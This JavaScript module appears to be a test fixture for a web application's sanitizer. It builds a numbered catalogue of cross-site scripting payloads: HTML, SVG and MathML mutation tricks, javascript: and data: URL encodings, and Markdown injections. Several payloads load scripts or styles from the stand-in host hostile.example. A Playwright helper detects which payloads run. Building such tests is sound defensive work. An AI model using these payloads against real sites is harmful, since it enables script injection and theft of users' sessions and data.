// What an attacker writes where text is expected: systematic, numbered, and each telling which one it was if it ever runs.

/** Where hostile payloads would fetch from or send to. Nobody is there. */
export const ORIGIN = 'https://hostile.example'

/** The function of the page's window that payloads call with their number. */
export const BINDING = 'pwned'

/** @typedef {(call: string) => string} Vector from a call to what makes a careless page perform it */

/** Markup of every kind, and what breaks out of where markup is put. @type {Vector[]} */
const MARKUP = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script/x>${call}</script/x>`,
  () => `<script src=${ORIGIN}/a.js></script>`,
  () => `<script type=module>import("${ORIGIN}/b.js")</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img/src="x"/onerror="${call}">`,
  (call) => `<IMG SRC=x OnErRoR=&#${[...call].map((c) => c.charCodeAt(0)).join(';&#')};>`,
  (call) => `<img src=x:x\nonerror\n=\n${call}>`,
  (call) => `<img src=\`x\` onerror=\`${call}\`>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${call}/>#x">`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  () => `<embed src="${ORIGIN}/c.svg">`,
  (call) => `<form action="javascript:${call}"><button autofocus onfocus=${call}>x</button></form>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  () => `<base href="${ORIGIN}/">`,
  () => `<link rel=stylesheet href="${ORIGIN}/d.css">`,
  () => `<style>@import url(${ORIGIN}/e.css);*{background:url(${ORIGIN}/e.gif)}</style>`,
  (call) => `<style onload=${call}>x{}</style>`,
  (call) => `<div style="width:expression(${call});background:url(javascript:${call})">x</div>`,
  (call) => `<div style="animation:x 1s" onanimationstart=${call}><style>@keyframes x{}</style></div>`,
  // Out of an attribute, a comment, a title, a text area.
  (call) => `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
  (call) => `' onfocus='${call}' autofocus x='`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><svg/onload=${call}>`,
  (call) => `--><img src=x onerror=${call}><!--`,
  (call) => `</title><img src=x onerror=${call}>`,
  (call) => `</textarea><img src=x onerror=${call}>`,
  (call) => `</script><img src=x onerror=${call}>`,
  (call) => `</style><img src=x onerror=${call}>`,
  (call) => `]]><img src=x onerror=${call}>`,
  (call) => `</main></body><img src=x onerror=${call}>`,
  // What one parser writes and the next reads differently.
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<template><img src=x onerror=${call}></template><select><template><img src=x onerror=${call}>`,
  (call) => `<a><svg><desc><a><style><img src=x onerror=${call}></style>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  // Entities, templates, characters that are not seen.
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  (call) => `{{constructor.constructor('${call}')()}} \${${call}} #{${call}} <%= ${call} %> {@html "<img src=x onerror=${call}>"}`,
  (call) => `<\u0000script>${call}</script><img src=x on\u0000error=${call}>`,
  (call) => `<\u200bscript>${call}</script>\ufeff<img\u00a0src=x onerror=${call}>`,
  (call) => `\u202e<img src=x onerror=${call}>\u2066\u2069\u202c`,
  (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e<img src=x onerror=${call}\u2028>`,
  (call) => `__proto__ constructor <x-element onclick=${call} tabindex=1 autofocus onfocus=${call}>`,
]

/** Addresses that do something, in many spellings. @type {Vector[]} */
const ADDRESSES = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `javascript&#58;${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `&#x6A&#x61&#x76ascript:${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `java&#9;script:${call}`,
  (call) => `&#1;javascript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `\u00a0javascript:${call}`,
  (call) => `javascript\\:${call}`,
  (call) => `java\\script:${call}`,
  (call) => `javascript:%2F%2F%0A${call}`,
  (call) => `javascript://hostile.example/%0A${call}`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>opener.${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>opener.${call}</script>`)}`,
  (call) => `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`)}`,
  (call) => `DATA:image/png,<svg onload=${call}>`,
  (call) => `blob:${ORIGIN}/${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `https://x" onerror="${call}" onmouseover="${call}`,
]

/** The places of Markdown that an address can stand in. @type {((address: string) => string)[]} */
const ADDRESSED = [
  (address) => `[words](<${address}>) and [words](${address} "title")`,
  (address) => `![picture](<${address}>) and ![picture](${address})`,
  (address) => `<${address}> and ${address}`,
  (address) => `[words][1] and ![picture][1]\n\n[1]: <${address}>\n`,
]

/** Markdown around markup. @type {Vector[]} */
const MARKDOWN = [
  (call) => `\`\`\`"><img src=x onerror=${call}>\ncode\n\`\`\``,
  (call) => `~~~js" onmouseover="${call}\n<img src=x onerror=${call}>\n~~~`,
  (call) => `\`<img src=x onerror=${call}>\` and \`\`</code><svg onload=${call}>\`\``,
  (call) => `    </code></pre><img src=x onerror=${call}>`,
  (call) => `# <img src=x onerror=${call}>\n\n"><svg onload=${call}>\n===`,
  (call) => `[^"><img src=x onerror=${call}>]\n\n[^"><img src=x onerror=${call}>]: <svg onload=${call}>`,
  (call) => `![" onerror="${call}](https://hostile.example/alt.png "\\" onerror=\\"${call}")`,
  (call) => `[<img src=x onerror=${call}>](https://hostile.example '"><svg onload=${call}>')`,
  (call) => `| <img src=x onerror=${call}> | b |\n|:-|-:|\n| "><svg onload=${call}> | [x](javascript:${call}) |`,
  (call) => `> - 1. <svg onload=${call}>\n>   - [x] [y](javascript:${call})`,
  (call) => `<div>\n\n**<img src=x onerror=${call}>**\n\n</div>`,
  (call) => `<!-- -->\n<img src=x onerror=${call}>\n<?php ${call} ?>\n<![CDATA[<svg onload=${call}>]]>`,
  (call) => `**a<img src=x** onerror=${call}> *<svg* onload=${call}> ~~</del><svg onload=${call}>~~`,
  (call) => `[x]: javascript:${call} "><img src=x onerror=${call}>"\n\n[x] [x][] [y][x]`,
]

/** @param {Vector[]} vectors */
const numbered = (vectors) => vectors.map((vector, n) => vector(`${BINDING}(${n})`))

/** For names and titles. */
export const SHORT = numbered(MARKUP)

/** For documents. */
export const DOCUMENTS = numbered([
  ...MARKUP,
  ...ADDRESSED.flatMap((around) => ADDRESSES.map((address) => (/** @type {string} */ call) => around(address(call)))),
  ...MARKDOWN,
])

/**
 * Watch a browser context: what runs, and what it sends to the hostile origin. Pictures over https are allowed in documents.
 *
 * @param {import('playwright-core').BrowserContext} context
 */
export async function watch(context) {
  const seen = { executed: /** @type {string[]} */ ([]), requests: /** @type {string[]} */ ([]) }
  await context.exposeBinding(BINDING, (_, which) => void seen.executed.push(String(which)))
  await context.route(
    (url) => /(^|\.)hostile\.example$/.test(url.hostname),
    (route) => {
      if (route.request().resourceType() !== 'image') seen.requests.push(`${route.request().resourceType()} ${route.request().url()}`)
      return route.abort()
    },
  )
  const listen = (/** @type {import('playwright-core').Page} */ page) =>
    page.on('dialog', (dialog) => {
      seen.executed.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
  context.pages().forEach(listen)
  context.on('page', listen)
  return seen
}
